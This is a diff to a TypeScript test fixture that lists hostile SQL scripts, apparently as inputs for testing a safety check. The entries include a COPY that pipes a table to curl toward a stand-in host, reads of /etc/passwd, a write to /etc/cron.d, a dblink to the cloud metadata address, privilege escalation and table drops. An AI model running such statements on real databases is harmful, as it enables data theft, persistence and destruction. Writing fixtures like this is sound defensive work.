@@ -1,6 +1,9 @@
 // SQL scripts made to harm who installs them, or who reads them: by hand, and good ones mutated.
 import fc from "fast-check";
 
+/** What a script would write if it were run. */
+export const writtenByScripts = "/tmp/lanyard-written-by-a-hostile-script";
+
 /** Each would do harm, hang a reader, or hide what it does. */
 export const hostileScripts: readonly string[] = [
   "drop table people",
@@ -19,6 +22,7 @@ export const hostileScripts: readonly string[] = [
   "reset role; set role postgres",
   "copy people to program 'curl -d @- http://example.test'",
   "copy (select 1) to '/etc/cron.d/x'",
+  `copy (select 1) to '${writtenByScripts}'`,
   "copy people from '/etc/passwd'",
   "create extension plpython3u",
   "create language plpython3u",
@@ -29,7 +33,7 @@ export const hostileScripts: readonly string[] = [
   "create or replace function f() returns int language sql security definer as 'select 1'",
   "select pg_read_file('/etc/passwd')",
   "select pg_ls_dir('/')",
-  "select lo_export(1, '/tmp/x')",
+  `select lo_export(1, '${writtenByScripts}')`,
   "select dblink_connect('host=169.254.169.254')",
   "select pg_terminate_backend(pid) from pg_stat_activity",
   "select pg_sleep(1e9)",
